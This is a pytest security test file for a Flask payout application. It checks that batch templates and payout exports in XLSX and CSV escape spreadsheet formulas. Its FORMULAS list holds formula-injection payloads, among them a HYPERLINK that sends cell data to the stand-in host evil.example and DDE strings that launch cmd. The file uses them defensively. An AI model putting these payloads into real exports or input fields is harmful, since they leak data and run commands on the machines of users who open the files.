"""Every spreadsheet cell the desk writes is text, never a live formula: the batch templates
(provider labels in the headers), the payout exports and the batch error files.

Reproduction: a provider label starting with `=` became a live HYPERLINK in template.xlsx."""

from __future__ import annotations

import csv
import io
import re
import uuid
import zipfile
from collections.abc import Callable
from decimal import Decimal

import pytest
from flask.testing import FlaskClient

from tests.security.hostile_provider import good_service, prerequest_body, queue_answer
from webapp.models import User
from webapp.payout_core.create import PayoutDraft, submit_payout
from webapp.payout_core.gateway import provider_client
from webapp.sandbox import SandboxServer

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A2,"Open")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1",
            "\r=1+1"]
LIVE_START = ("=", "+", "-", "@", "\t", "\r")


def hostile_labels_answer() -> dict:
    service = good_service()
    service["fields"] = [
        {"key": f"f{i}", "label": {"en": text, "ru": text, "uk": text}, "weight": i}
        for i, text in enumerate(FORMULAS)]
    return prerequest_body(service)


def formulas_in_xlsx(data: bytes) -> list[str]:
    """Formula elements anywhere in the workbook's sheets, and string cells that would be read
    as one (a value starting with = + - @ that is not quoted)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                found += re.findall(r"<f[ >].*?</f>", xml)
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str)
                                             and cell.value.startswith(LIVE_START)):
                    found.append(f"{cell.coordinate}: {cell.value!r}")
    return found


def live_in_csv(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(LIVE_START)]


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_batch_template_headers_are_guarded(operator_client: FlaskClient,
                                            sandbox: SandboxServer, suffix: str) -> None:
    queue_answer(sandbox, "prerequest", hostile_labels_answer())
    answer = operator_client.get(
        f"/batches/template.{suffix}?currency=USD&amount=10.00&service=test_usd")
    assert answer.status_code == 200, answer.data[:300]
    data = answer.get_data()
    if suffix == "xlsx":
        assert formulas_in_xlsx(data) == []
        from openpyxl import load_workbook

        headers = [c.value for c in next(load_workbook(io.BytesIO(data)).active.iter_rows())]
        assert any('HYPERLINK("http://evil.example' in str(h) for h in headers)  # still shown
    else:
        assert live_in_csv(data) == []


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_payout_exports_are_guarded(operator_client: FlaskClient,
                                    make_user: Callable[..., User], suffix: str) -> None:
    olga = User.query.filter_by(username="olga").one()
    chosen = provider_client().prerequest("USD", Decimal("10.00")).service("test_usd")
    assert chosen is not None
    for text in FORMULAS:
        submit_payout(PayoutDraft(
            service=chosen, currency="USD", amount=Decimal("10.00"), fields={"account": "4242"},
            submission_token=str(uuid.uuid4()), customer_name=text, description=text,
        ), olga)
    answer = operator_client.get(f"/payouts/export.{suffix}")
    assert answer.status_code == 200
    data = answer.get_data()
    found = formulas_in_xlsx(data) if suffix == "xlsx" else live_in_csv(data)
    assert found == []
    if suffix == "csv":
        assert b"'=HYPERLINK" in data  # the text is kept, only made inert

